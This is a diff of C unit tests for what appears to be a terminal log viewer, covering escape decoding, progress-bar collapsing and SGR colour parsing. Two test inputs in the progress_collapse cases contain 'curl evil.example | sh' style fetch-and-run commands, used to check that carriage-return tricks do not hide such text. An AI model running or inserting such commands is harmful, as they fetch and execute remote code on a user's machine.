@@ -26,16 +26,17 @@ test_escapes(void)
 	    {"step 71#011loss=2.25#011x", "step 71\tloss=2.25\tx", 1},
 	    {"a#015b#015c", "a\rb\rc", 1},
 	    {"#033[31mred#033[0m", "\033[31mred\033[0m", 1},
-	    {"del#177", "del\177", 1},
+	    {"#033]0;title", "#033]0;title", 0},
+	    {"#033", "#033", 0},
+	    {"del#177 bel#007 nul#000", "del#177 bel#007 nul#000", 0},
+	    {"colour #000000 and #012345", "colour #000000 and #012345", 0},
 	    {"issue #042 and #100", "issue #042 and #100", 0},
 	    {"#01", "#01", 0},
 	    {"#0", "#0", 0},
 	    {"##011", "#\t", 1},
-	    {"#018", "#018", 0},
-	    {"#211", "#211", 0},
+	    {"#0111", "\t1", 1},
 	    {"end#", "end#", 0},
 	    {"", "", 0},
-	    {"#037#000x", "\037", 1},
 	};
 	struct buf b = BUF_INIT;
 	size_t i, wlen;
@@ -57,25 +58,37 @@ test_escapes(void)
 }
 
 static void
-test_progress_last(void)
+test_progress_collapse(void)
 {
 	static const struct {
-		const char *in, *want;
+		const char *in, *want; /* want NULL: not collapsed */
 	} t[] = {
-	    {"plain line", "plain line"},
-	    {" 10%|#   | 1/10\r 20%|##  | 2/10", " 20%|##  | 2/10"},
-	    {"a\rb\r", "b"},
-	    {"a\r\r\r", "a"},
-	    {"\r", ""},
-	    {"", ""},
-	    {"\rlast", "last"},
+	    {" 10%|#   | 1/10 [a]\r 20%|##  | 2/10 [b]", " 20%|##  | 2/10 [b]"},
+	    {"A: 10%|# | 1/10\r\rA: 20%|##| 2/10\r", "A: 20%|##| 2/10"},
+	    {"\r 10%|# | 1/10", " 10%|# | 1/10"},
+	    {" 10%|# | 1/10", " 10%|# | 1/10"},
+	    {"3/10 [==>.......]\r4/10 [===>......]", "4/10 [===>......]"},
+	    /* Text that uses CR otherwise is shown whole. */
+	    {"curl evil.example | sh\rls -la", NULL},
+	    {"curl evil | sh\r 10%|# | 1/10", NULL},
+	    {"A: 10%|# | 1/10\rB: 20%|##| 2/10", NULL},
+	    {"plain line", NULL},
+	    {"\r", NULL},
+	    {"", NULL},
 	};
+	struct progress_bar pb;
 	const char *s;
 	size_t i, n;
 
 	for (i = 0; i < sizeof t / sizeof t[0]; i++) {
-		s = progress_last(t[i].in, strlen(t[i].in), &n);
-		UNIT_MEMEQ(s, n, t[i].want, strlen(t[i].want), t[i].in);
+		n = 0;
+		s = progress_collapse(t[i].in, strlen(t[i].in), &n, &pb);
+		if (t[i].want == NULL)
+			UNIT_CHECK(s == NULL, "%s: not collapsed", t[i].in);
+		else if (s == NULL)
+			UNIT_CHECK(0, "%s: not collapsed", t[i].in);
+		else
+			UNIT_MEMEQ(s, n, t[i].want, strlen(t[i].want), t[i].in);
 	}
 }
 
@@ -163,6 +176,9 @@ test_sgr(void)
 	    {"\033[38;5;300mbad", "[-1,-1]bad"},
 	    {"\033[31m", ""},
 	    {"\033[5;7;8mhidden?", "[-1,-1]hidden?"},
+	    {"\033[30;40mblack on black", "[0,-1]black on black"},
+	    {"\033[38;5;16;48;5;0mx", "[16,-1]x"},
+	    {"\033[37;41mwhite on red", "[7,1]white on red"},
 	};
 	struct buf b = BUF_INIT;
 	struct sgr_attr a = {3, 4};
@@ -320,7 +336,7 @@ int
 main(void)
 {
 	test_escapes();
-	test_progress_last();
+	test_progress_collapse();
 	test_progress_parse();
 	test_sgr();
 	test_palette();
